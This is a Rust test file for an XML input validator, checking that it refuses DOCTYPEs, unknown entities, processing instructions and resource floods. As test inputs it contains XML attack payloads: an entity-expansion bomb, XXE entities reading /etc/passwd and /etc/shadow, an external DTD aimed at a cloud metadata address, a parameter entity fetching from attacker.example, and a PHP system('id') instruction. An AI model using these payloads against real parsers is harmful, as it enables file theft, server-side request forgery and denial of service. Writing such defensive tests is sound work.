use super::*;
use crate::policy::validate::mutation::mutate;

fn reason(body: &str) -> Option<String> {
    check(body.as_bytes(), &XmlLimits::default())
        .err()
        .map(|v| v.reason.into_owned())
}

fn refused_because(body: &str, expected: &str) -> bool {
    reason(body).is_some_and(|r| r.contains(expected))
}

fn nested(depth: usize) -> String {
    format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth))
}

fn element_with_attributes(count: usize) -> String {
    let attributes: String = (0..count).map(|i| format!(" a{i}=\"v\"")).collect();
    format!("<root{attributes}/>")
}

#[test]
fn billion_laughs_is_refused_at_the_doctype_before_any_entity_is_expanded() {
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    doc.push_str("<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n");
    for level in 2..10 {
        let previous = format!("&lol{};", level - 1).repeat(10);
        doc.push_str(&format!("<!ENTITY lol{level} \"{previous}\">\n"));
    }
    doc.push_str("]>\n<lolz>&lol9;</lolz>");
    assert_eq!(
        reason(&doc).as_deref(),
        Some("a document type declaration is not allowed")
    );
}

#[test]
fn an_external_entity_reading_a_local_file_is_refused() {
    let doc = r#"<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<foo>&xxe;</foo>"#;
    assert!(refused_because(doc, "document type declaration"));
}

#[test]
fn an_external_dtd_is_refused() {
    let doc = r#"<!DOCTYPE foo SYSTEM "http://169.254.169.254/latest/meta-data/"><foo/>"#;
    assert!(refused_because(doc, "document type declaration"));
}

#[test]
fn parameter_entities_are_refused() {
    let doc = r#"<!DOCTYPE data [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<data>&exfil;</data>"#;
    assert!(refused_because(doc, "document type declaration"));
}

#[test]
fn even_a_harmless_doctype_is_refused() {
    assert!(refused_because(
        "<!DOCTYPE note><note/>",
        "document type declaration"
    ));
}

#[test]
fn an_unknown_entity_reference_in_text_is_refused_not_passed_through() {
    assert!(refused_because(
        "<foo>&xxe;</foo>",
        "other than the five predefined"
    ));
}

#[test]
fn an_unknown_entity_reference_in_an_attribute_is_refused() {
    assert!(refused_because(
        "<foo bar=\"a &xxe; b\"/>",
        "other than the five predefined"
    ));
}

#[test]
fn predefined_entities_and_character_references_pass() {
    let doc = "<foo a=\"&lt;&amp;&#x41;&#66;\">&lt;&gt;&amp;&apos;&quot;&#233;&#x1F600;</foo>";
    assert_eq!(reason(doc), None);
}

#[test]
fn a_character_reference_to_a_control_character_is_refused() {
    for doc in [
        "<a>&#0;</a>",
        "<a>&#x1;</a>",
        "<a b=\"&#27;\"/>",
        "<a>&#xFFFE;</a>",
    ] {
        assert!(
            refused_because(doc, "character reference"),
            "{doc} was not refused"
        );
    }
}

#[test]
fn a_malformed_character_reference_is_refused() {
    for doc in [
        "<a>&#;</a>",
        "<a>&#xZZ;</a>",
        "<a>&#99999999999;</a>",
        "<a>&#X41;</a>",
    ] {
        assert!(reason(doc).is_some(), "{doc} was not refused");
    }
}

#[test]
fn a_lone_ampersand_is_malformed() {
    assert!(refused_because("<a>Tom & Jerry</a>", "well-formed"));
    assert!(refused_because("<a b=\"Tom & Jerry\"/>", "well-formed"));
}

#[test]
fn nesting_deeper_than_the_limit_is_refused() {
    assert_eq!(reason(&nested(32)), None);
    assert_eq!(
        reason(&nested(33)).as_deref(),
        Some("nesting deeper than 32")
    );
}

#[test]
fn an_unclosed_deep_nesting_is_refused_at_the_limit_not_at_the_end() {
    // 100 000 open tags and no end: refused at depth 33, the reader never holds more names.
    let doc = "<a>".repeat(100_000);
    assert_eq!(reason(&doc).as_deref(), Some("nesting deeper than 32"));
}

#[test]
fn an_empty_element_counts_for_depth() {
    let doc = format!("{}<b/>{}", "<a>".repeat(32), "</a>".repeat(32));
    assert_eq!(reason(&doc).as_deref(), Some("nesting deeper than 32"));
}

#[test]
fn an_attribute_flood_is_refused() {
    assert_eq!(reason(&element_with_attributes(32)), None);
    assert_eq!(
        reason(&element_with_attributes(33)).as_deref(),
        Some("more than 32 attributes on one element")
    );
}

#[test]
fn duplicate_attributes_are_malformed() {
    assert!(refused_because("<a b=\"1\" b=\"2\"/>", "well-formed"));
}

#[test]
fn an_element_flood_is_refused() {
    let limits = XmlLimits {
        max_elements: 100,
        ..XmlLimits::default()
    };
    let ok = format!("<r>{}</r>", "<i/>".repeat(99));
    let flood = format!("<r>{}</r>", "<i/>".repeat(100));
    assert!(check(ok.as_bytes(), &limits).is_ok());
    assert_eq!(
        check(flood.as_bytes(), &limits).map_err(|v| v.reason),
        Err("more than 100 elements".into())
    );
}

#[test]
fn a_text_node_split_by_references_is_still_one_text_node() {
    let limits = XmlLimits {
        max_text_bytes: 100,
        ..XmlLimits::default()
    };
    let doc = format!("<r>{}</r>", "aaaa&amp;".repeat(30));
    assert_eq!(
        check(doc.as_bytes(), &limits).map_err(|v| v.reason),
        Err("a text node longer than 100 bytes".into())
    );
    let short = format!("<r>{}</r>", "<i>aaaa&amp;</i>".repeat(30));
    assert!(check(short.as_bytes(), &limits).is_ok());
}

#[test]
fn oversized_attribute_values_and_names_are_refused() {
    let limits = XmlLimits {
        max_attribute_bytes: 10,
        max_name_bytes: 8,
        ..XmlLimits::default()
    };
    let run = |doc: &str| check(doc.as_bytes(), &limits).map_err(|v| v.reason);
    assert!(run("<a b=\"0123456789\"/>").is_ok());
    assert!(run("<a b=\"0123456789X\"/>").is_err());
    assert!(run("<abcdefgh/>").is_ok());
    assert!(run("<abcdefghi/>").is_err());
    assert!(run("<a abcdefghi=\"\"/>").is_err());
}

#[test]
fn processing_instructions_are_refused_but_the_xml_declaration_passes() {
    assert_eq!(
        reason("<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>"),
        None
    );
    assert!(refused_because(
        "<?xml-stylesheet href=\"x.xsl\"?><a/>",
        "processing instruction"
    ));
    assert!(refused_because(
        "<a><?php system('id'); ?></a>",
        "processing instruction"
    ));
}

#[test]
fn an_xml_declaration_after_the_start_is_refused() {
    assert!(reason(" <?xml version=\"1.0\"?><a/>").is_some());
    assert!(reason("<a/><?xml version=\"1.0\"?>").is_some());
}

#[test]
fn a_byte_order_mark_before_the_declaration_passes() {
    assert_eq!(reason("\u{FEFF}<?xml version=\"1.0\"?><a/>"), None);
}

#[test]
fn a_declared_encoding_other_than_utf8_is_refused() {
    assert!(refused_because(
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a/>",
        "encoding other than UTF-8"
    ));
    assert!(refused_because(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>",
        "encoding other than UTF-8"
    ));
}

#[test]
fn invalid_utf8_is_refused() {
    let result = check(b"<a>\xff\xfe</a>", &XmlLimits::default());
    assert_eq!(
        result.map_err(|v| v.reason),
        Err("must be valid UTF-8".into())
    );
}

#[test]
fn a_control_character_in_text_is_refused() {
    assert!(refused_because(
        "<a>bell\u{7}</a>",
        "character XML does not allow"
    ));
}

#[test]
fn a_less_than_sign_in_an_attribute_value_is_malformed() {
    assert!(refused_because("<a b=\"<c>\"/>", "well-formed"));
}

#[test]
fn mismatched_and_unclosed_tags_are_malformed() {
    assert!(refused_because("<a><b></a></b>", "well-formed"));
    assert!(refused_because("<a><b></b>", "well-formed"));
    assert!(refused_because("<a></a></b>", "well-formed"));
}

#[test]
fn content_after_the_root_element_is_refused() {
    assert!(refused_because("<a/>trailing", "outside the root"));
    assert!(refused_because("<a/><![CDATA[x]]>", "outside the root"));
    assert!(refused_because("<a/>&amp;", "outside the root"));
    assert!(refused_because("text<a/>", "outside the root"));
}

#[test]
fn a_second_root_element_is_refused() {
    assert!(refused_because("<a/><b/>", "more than one root"));
    assert!(refused_because("<a></a>\n<a></a>", "more than one root"));
}

#[test]
fn a_document_without_a_root_element_is_refused() {
    assert!(refused_because("", "root element"));
    assert!(refused_because(
        "  <!-- only a comment -->  ",
        "root element"
    ));
    assert!(refused_because("<?xml version=\"1.0\"?>", "root element"));
}

#[test]
fn a_valid_document_with_namespaces_cdata_and_comments_passes() {
    let doc = r#"<?xml version="1.0" encoding="utf-8"?>
<!-- an order -->
<o:order xmlns:o="urn:example:order" xmlns="urn:example:default" id="42">
  <o:item sku="A-1" qty="2">Widget &amp; gadget</o:item>
  <note><![CDATA[<b>not markup</b> & not an entity]]></note>
  <empty/>
</o:order>
"#;
    assert_eq!(reason(doc), None);
}

#[test]
fn a_refusal_points_at_the_body_and_never_echoes_the_document() {
    let doc = "<!DOCTYPE secret-token-123 [<!ENTITY x SYSTEM \"file:///etc/shadow\">]><a/>";
    let Err(violation) = check(doc.as_bytes(), &XmlLimits::default()) else {
        unreachable!("a doctype passed");
    };
    assert_eq!(violation.pointer, "/body");
    assert!(!violation.reason.contains("secret-token-123"));
    assert!(!violation.reason.contains("/etc/shadow"));
}

#[test]
fn arbitrary_and_mutated_documents_never_panic() {
    use rand::rngs::StdRng;
    use rand::{Rng, SeedableRng};

    let seeds: [&[u8]; 5] = [
        b"<?xml version=\"1.0\"?><a x=\"1\"><b>t&amp;</b><![CDATA[c]]><!--c--></a>",
        b"<!DOCTYPE a [<!ENTITY e \"v\">]><a>&e;</a>",
        b"<a:b xmlns:a=\"u\"><c d='&#x41;'/></a:b>",
        b"<?pi x?><a><b></a>",
        b"\xef\xbb\xbf<a>&#1114111;</a>",
    ];
    let limits = XmlLimits {
        max_depth: 4,
        max_attributes: 2,
        max_attribute_bytes: 8,
        max_text_bytes: 16,
        max_elements: 8,
        max_name_bytes: 8,
    };
    let mut rng = StdRng::seed_from_u64(0x786d_6c67);
    for round in 0..4000 {
        let input = if round % 4 == 0 {
            (0..rng.random_range(0..64)).map(|_| rng.random()).collect()
        } else {
            mutate(seeds[round % seeds.len()], &mut rng)
        };
        let _ = check(&input, &limits);
        let _ = check(&input, &XmlLimits::default());
    }
}
